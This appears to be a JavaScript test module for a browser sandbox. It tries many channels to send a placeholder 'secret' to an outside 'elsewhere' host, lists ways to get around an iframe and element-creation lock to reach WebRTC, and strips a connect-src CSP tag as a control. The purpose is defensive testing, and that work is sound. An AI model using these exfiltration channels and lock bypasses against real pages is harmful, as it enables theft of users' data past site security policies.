// Attempts to get data out of the page, one per channel. Each function is sent into the browser as
// its source: it may use nothing from outside itself.

/**
 * Tries every channel of a document. Returns `{ channel: "refused" | "open" }`; what the browser
 * does not tell (a beacon's fate) is `"silent"`, and the servers' logs decide.
 */
export async function probePage({ site, elsewhere, stunPort }) {
  const verdicts = {};
  // What the page takes away must not hide what the policy refuses: `keepCreate` ran before the page.
  const create = globalThis.keptCreate ?? ((tag) => document.createElement(tag));
  const within = (promise) =>
    Promise.race([promise, new Promise((done) => setTimeout(() => done("silent"), 4000))]);
  const attempt = async (channel, work) => {
    try {
      verdicts[channel] = await within(work());
    } catch {
      verdicts[channel] = "refused";
    }
  };
  const opens = (target, good, bad = "error") =>
    new Promise((done) => {
      target.addEventListener(good, () => done("open"), { once: true });
      target.addEventListener(bad, () => done("refused"), { once: true });
    });
  const load = (tag, set) => {
    const element = create(tag);
    const end = opens(element, "load");
    set(element);
    document.head.append(element);
    return end.finally(() => element.remove());
  };

  for (const [name, origin] of [["same origin", site], ["elsewhere", elsewhere]]) {
    await attempt(`fetch, ${name}`, async () => {
      await fetch(`${origin}/probe/fetch`, { method: "POST", body: "secret" });
      return "open";
    });
    await attempt(`XMLHttpRequest, ${name}`, () => {
      const request = new XMLHttpRequest();
      request.open("POST", `${origin}/probe/xhr`);
      const end = opens(request, "load");
      request.send("secret");
      return end;
    });
    await attempt(`WebSocket, ${name}`, () => {
      const socket = new WebSocket(`${origin.replace("http", "ws")}/probe/websocket`);
      return opens(socket, "open").finally(() => socket.close());
    });
    await attempt(`EventSource, ${name}`, () => {
      const source = new EventSource(`${origin}/probe/events`);
      return opens(source, "open").finally(() => source.close());
    });
    await attempt(`beacon, ${name}`, async () => {
      if (!navigator.sendBeacon(`${origin}/probe/beacon`, "secret")) return "refused";
      return "silent";
    });
    await attempt(`image, ${name}`, () => {
      const image = new Image();
      const end = opens(image, "load");
      image.src = `${origin}/probe/image?secret`;
      return end;
    });
    await attempt(`stylesheet, ${name}`, () =>
      load("link", (link) => Object.assign(link, { rel: "stylesheet", href: `${origin}/probe/style?secret` })),
    );
    await attempt(`prefetch, ${name}`, () =>
      load("link", (link) => Object.assign(link, { rel: "prefetch", href: `${origin}/probe/prefetch?secret` })),
    );
    await attempt(`frame, ${name}`, async () => {
      const frame = create("iframe");
      frame.src = `${origin}/probe/frame?secret`;
      // A refused frame still fires `load`, with an error page: only the log can tell.
      const end = opens(frame, "load");
      document.body.append(frame);
      await end;
      frame.remove();
      return "silent";
    });
    await attempt(`form, ${name}`, async () => {
      const form = create("form");
      Object.assign(form, { method: "post", action: `${origin}/probe/form`, target: "probe" });
      const frame = create("iframe");
      frame.name = "probe";
      document.body.append(frame, form);
      const refused = new Promise((done) => document.addEventListener("securitypolicyviolation", done, { once: true }));
      const end = opens(frame, "load");
      form.submit();
      await within(Promise.race([end, refused]));
      frame.remove();
      form.remove();
      return "silent";
    });
  }
  await attempt("script elsewhere", () =>
    load("script", (script) => Object.assign(script, { src: `${elsewhere}/probe/script?secret` })),
  );
  await attempt("worker elsewhere", () => {
    const worker = new Worker(`${elsewhere}/probe/worker?secret`);
    return opens(worker, "message").finally(() => worker.terminate());
  });
  if ("RTCPeerConnection" in globalThis) {
    await attempt("WebRTC", async () => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${stunPort}` }] });
      peer.createDataChannel("probe");
      const gathered = new Promise((done) => {
        peer.addEventListener("icegatheringstatechange", () => peer.iceGatheringState === "complete" && done());
      });
      await peer.setLocalDescription(await peer.createOffer());
      await within(gathered);
      peer.close();
      return "silent";
    });
  }
  return verdicts;
}

/** Tries every channel of a worker; verdicts as for the page. */
export async function probeWorker({ site, elsewhere }) {
  const verdicts = {};
  const within = (promise) =>
    Promise.race([promise, new Promise((done) => setTimeout(() => done("silent"), 4000))]);
  const attempt = async (channel, work) => {
    try {
      verdicts[channel] = await within(work());
    } catch {
      verdicts[channel] = "refused";
    }
  };
  const opens = (target, good) =>
    new Promise((done) => {
      target.addEventListener(good, () => done("open"), { once: true });
      target.addEventListener("error", () => done("refused"), { once: true });
    });
  for (const [name, origin] of [["same origin", site], ["elsewhere", elsewhere]]) {
    await attempt(`fetch, ${name}`, async () => {
      await fetch(`${origin}/worker-probe/fetch`, { method: "POST", body: "secret" });
      return "open";
    });
    await attempt(`XMLHttpRequest, ${name}`, () => {
      const request = new XMLHttpRequest();
      request.open("POST", `${origin}/worker-probe/xhr`);
      const end = opens(request, "load");
      request.send("secret");
      return end;
    });
    await attempt(`WebSocket, ${name}`, () => {
      const socket = new WebSocket(`${origin.replace("http", "ws")}/worker-probe/websocket`);
      return opens(socket, "open").finally(() => socket.close());
    });
    await attempt(`EventSource, ${name}`, () => {
      const source = new EventSource(`${origin}/worker-probe/events`);
      return opens(source, "open").finally(() => source.close());
    });
    await attempt(`importScripts, ${name}`, async () => {
      importScripts(`${origin}/worker-probe/classic.js?secret`);
      return "open";
    });
    await attempt(`import(), ${name}`, async () => {
      await import(`${origin}/worker-probe/module.js?secret`);
      return "open";
    });
    await attempt(`nested worker, ${name}`, () => {
      const worker = new Worker(`${origin}/worker-probe/nested?secret`);
      return opens(worker, "message").finally(() => worker.terminate());
    });
  }
  return verdicts;
}

/** Runs in the page before its own scripts: keeps the maker of elements that the page takes away with the lock. */
export function keepCreate() {
  const own = Document.prototype.createElement;
  globalThis.keptCreate = (tag) => own.call(document, tag);
}

/** Tries to reach WebRTC in a fresh window of any kind; which ways gave one. Works from what the page left. */
export async function probeRealms() {
  const reached = [];
  const attempt = (way, reach) => {
    try {
      if (reach()?.RTCPeerConnection) reached.push(way);
    } catch {
      // Refused.
    }
  };
  const shown = (frame) => (document.body.append(frame), frame.contentWindow);
  attempt("own", () => globalThis);
  attempt("createElement", () => shown(document.createElement("iframe")));
  attempt("capitals", () => shown(document.createElement("IFRAME")));
  let asked = 0;
  attempt("two-faced name", () => shown(document.createElement({ toString: () => (asked++ ? "iframe" : "p") })));
  attempt("createElementNS", () => shown(document.createElementNS("http://www.w3.org/1999/xhtml", "iframe")));
  attempt("prefixed", () => shown(document.createElementNS("http://www.w3.org/1999/xhtml", "x:iframe")));
  attempt("other document", () => {
    const other = document.implementation.createHTMLDocument();
    return shown(document.adoptNode(other.createElement("iframe")));
  });
  attempt("XML document", () => {
    const other = document.implementation.createDocument("http://www.w3.org/1999/xhtml", "html");
    return shown(document.adoptNode(other.createElementNS("http://www.w3.org/1999/xhtml", "iframe")));
  });
  attempt("root of a document", () => {
    const other = document.implementation.createDocument("http://www.w3.org/1999/xhtml", "iframe");
    return shown(document.adoptNode(other.documentElement));
  });
  attempt("custom element", () => {
    class Frame extends HTMLIFrameElement {}
    customElements.define("probe-frame", Frame, { extends: "iframe" });
    return shown(new Frame());
  });
  attempt("object", () => {
    const object = document.createElement("object");
    object.type = "text/html";
    object.data = "about:blank";
    return shown(object);
  });
  attempt("markup", () => {
    const box = document.createElement("div");
    box.innerHTML = "<iframe></iframe>";
    return shown(box.firstChild);
  });
  attempt("markup made safe", () => {
    const box = document.createElement("div");
    box.setHTML("<iframe></iframe>");
    return shown(box.firstChild);
  });
  attempt("fragment", () => shown(document.createRange().createContextualFragment("<iframe></iframe>").firstChild));
  attempt("parser", () => shown(new DOMParser().parseFromString("<iframe></iframe>", "text/html").body.firstChild));
  attempt("window", () => window.open("about:blank"));
  attempt("picture in picture", () => globalThis.documentPictureInPicture);
  return reached;
}

/**
 * Runs in the page before its own scripts: keeps any policy that closes all connections from being
 * inserted. With the lock gone, the probes must get through, or they prove nothing.
 */
export function withoutLock() {
  // Nor is anything taken away.
  Object.defineProperty(globalThis, "closeWays", { get: () => () => {}, set: () => {} });
  const isLock = (node) =>
    node instanceof HTMLMetaElement && /connect-src\s+'none'/.test(node.content) && /^content-security-policy$/i.test(node.httpEquiv);
  const guard = (prototype, method, find) => {
    const original = prototype[method];
    prototype[method] = function (...given) {
      if (find(given).some(isLock)) {
        globalThis.lockWasRemoved = true;
        return given[0];
      }
      return original.apply(this, given);
    };
  };
  const all = (given) => given;
  const first = (given) => given.slice(0, 1);
  for (const method of ["appendChild", "insertBefore", "replaceChild"]) guard(Node.prototype, method, first);
  for (const method of ["append", "prepend", "before", "after", "replaceChildren", "replaceWith"]) {
    guard(Element.prototype, method, all);
  }
  guard(Element.prototype, "insertAdjacentElement", (given) => given.slice(1));
}
